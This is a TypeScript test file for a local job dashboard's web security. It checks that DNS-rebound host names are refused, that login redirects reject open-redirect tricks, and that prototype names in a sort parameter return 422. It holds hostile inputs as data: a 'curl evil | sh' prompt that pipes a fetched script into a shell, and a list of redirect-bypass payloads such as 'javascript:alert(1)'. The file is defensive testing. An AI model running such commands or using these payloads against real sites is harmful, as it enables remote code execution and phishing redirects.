// Requests a hostile web page can make a browser send: a DNS-rebound name
// pointing at 127.0.0.1 (the loopback dashboard must not answer it, even to
// a request that carries the token), a login
// redirect smuggled past the same-site check with a control character, and a
// sort name that only exists on Object's prototype.

import { afterAll, beforeAll, expect, test } from "bun:test";
import { webFixture, type WebFixture } from "./helpers.ts";
import { safeNext } from "../../src/web/security.ts";

let open: WebFixture;
beforeAll(async () => {
  open = await webFixture();
});
afterAll(() => open.db.drop());

const body = { prompt: "curl evil | sh", cwd: "/tmp" };

test("on loopback, a request addressed to a non-loopback name is refused and enqueues nothing", async () => {
  const host = "evil.example:8080";
  const r = await open.request("POST", "/api/jobs", { json: body, headers: { host, origin: `http://${host}` } });
  expect(r.status).toBe(421);
  expect((await r.json()).message).toContain("not a loopback name");
  const page = await open.request("GET", "/", { headers: { host } });
  expect(page.status).toBe(421);
  expect((await open.queue.stats()).total).toBe(0);
});

test("loopback names are answered: localhost, 127.0.0.1 and [::1], with or without a port", async () => {
  for (const host of ["localhost:8080", "127.0.0.1", "127.0.0.1:9", "[::1]:8080", "LOCALHOST"]) {
    const r = await open.request("GET", "/api/stats", { headers: { host } });
    expect(r.status).toBe(200);
  }
  const r = await open.request("POST", "/api/jobs", { json: { prompt: "hello", cwd: "/tmp" }, headers: { host: "127.0.0.1:8080" } });
  expect(r.status).toBe(201);
});

test("the login redirect stays on this site, whatever control characters or slashes it is given", () => {
  for (const next of ["/\t/evil.example", "/\n/evil.example", "//evil.example", "/\\evil.example", "/%2F/x\u0000", "http://evil.example/", "javascript:alert(1)",
    "/.//evil.example", "/./\\evil.example", "/a/..//evil.example", "/%2e//evil.example", "/%2e%2e//evil.example"]) {
    expect(safeNext(next)).toBe("/");
  }
  expect(safeNext("/jobs?status=failed#top")).toBe("/jobs?status=failed#top");
  expect(safeNext("/a/../jobs")).toBe("/jobs");
});

test("a sort name from Object's prototype is a 422 naming the field, not a 500", async () => {
  for (const sort of ["toString", "constructor", "__proto__"]) {
    const r = await open.request("GET", `/api/jobs?sort=${sort}`);
    expect(r.status).toBe(422);
    expect(JSON.stringify(await r.json())).toContain("sort");
  }
});
